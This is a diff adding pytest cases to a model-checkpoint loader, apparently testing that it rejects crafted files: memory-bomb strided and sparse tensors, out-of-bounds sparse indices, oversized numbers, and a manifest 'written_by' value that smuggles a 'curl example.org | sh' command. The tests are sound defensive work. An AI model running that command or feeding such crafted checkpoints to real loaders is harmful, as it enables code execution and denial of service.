@@ -162,9 +162,39 @@ def itself_again_and_again(one: Path) -> None:
     content: list[Any] = []
     for _ in range(60):
         content = [content, content]
+    with_registered(one, content)
+
+
+def with_registered(one: Path, content: Any) -> None:
     saved = torch.load(one / "training.pt", weights_only=True)
     torch.save(saved | {"registered": {"it": content}}, one / "training.pt")
     resealed(one)
+
+
+def rows_that_overlap(one: Path) -> None:
+    """3.6 GB of numbers from 240 KB."""
+    with_registered(one, torch.arange(60_000.0).as_strided((30_000, 30_000), (1, 1)))
+
+
+def views_of_one_storage(one: Path) -> None:
+    numbers = torch.arange(100_000.0)
+    with_registered(one, [numbers[start:] for start in range(1000)])
+
+
+def many_times_by_sparse(one: Path) -> None:
+    indices = torch.arange(100_000)[None]
+    values = torch.ones(1).as_strided((100_000, 300), (0, 0))
+    sizes = (100_000, 300)
+    with_registered(one, torch.sparse_coo_tensor(indices, values, sizes, check_invariants=True))
+
+
+def an_index_out_of_the_memory(one: Path) -> None:
+    indices, values = torch.tensor([[-(1 << 40)]]), torch.ones(1)
+    with_registered(one, torch.sparse_coo_tensor(indices, values, (3,), check_invariants=False))
+
+
+def without_numbers(one: Path) -> None:
+    with_registered(one, torch.empty(1 << 40, device="meta"))
 
 
 @pytest.mark.parametrize(
@@ -183,6 +213,11 @@ def itself_again_and_again(one: Path) -> None:
         code_in_the_index,
         deflated,
         itself_again_and_again,
+        rows_that_overlap,
+        views_of_one_storage,
+        many_times_by_sparse,
+        an_index_out_of_the_memory,
+        without_numbers,
     ],
 )
 def test_one_of_an_old_format(
@@ -200,6 +235,42 @@ def test_one_of_an_old_format(
             read()
     assert not Path("code_ran").exists()
     assert not hasattr(TensorStorageMetadata, "changed")
+
+
+def test_tensors_that_share_memory_are_read(tmp_path: Path) -> None:
+    """As in a model whose parameters are views of one vector."""
+    one, numbers = of_format(2, "whole", tmp_path), torch.arange(100_000.0)
+    with_registered(one, [numbers, numbers, *numbers.view(100, 1000), torch.eye(3).to_sparse()])
+    assert len(loaded(one)[0]["registered"]["it"]) == 103
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [("step", 1 << 64), ("world_size", 10**400), ("metric", 10**400)],
+)
+def test_numbers_that_nothing_counts(name: str, value: int, tmp_path: Path) -> None:
+    one = of_format(3, "whole", tmp_path)
+    manifest = json.loads((one / "manifest.json").read_text())
+    (one / "manifest.json").write_text(json.dumps(manifest | {name: value}))
+    resealed(one)
+    with pytest.raises(CheckpointError, match=f"{name}: "):
+        loaded(one)
+
+
+def test_no_command_is_advised_that_a_stranger_has_written(tmp_path: Path) -> None:
+    """But to install a version, if it is one."""
+    one = of_format(3, "whole", tmp_path)
+    manifest = json.loads((one / "manifest.json").read_text())
+    for writer, remedy in (
+        ("9.1.0rc1", "pip install 'torchbus-checkpoint>=9.1.0rc1'"),
+        ("9' evil; curl example.org | sh '", "install the version that wrote it"),
+    ):
+        newer = manifest | {"version": 9, "written_by": {"torchbus": writer}}
+        (one / "manifest.json").write_text(json.dumps(newer))
+        resealed(one)
+        with pytest.raises(CheckpointError) as refused:
+            folder.manifest(one)
+        assert str(refused.value).endswith(f"reads formats 1 to 3: {remedy}")
 
 
 def again_and_again(parts: Any) -> None:
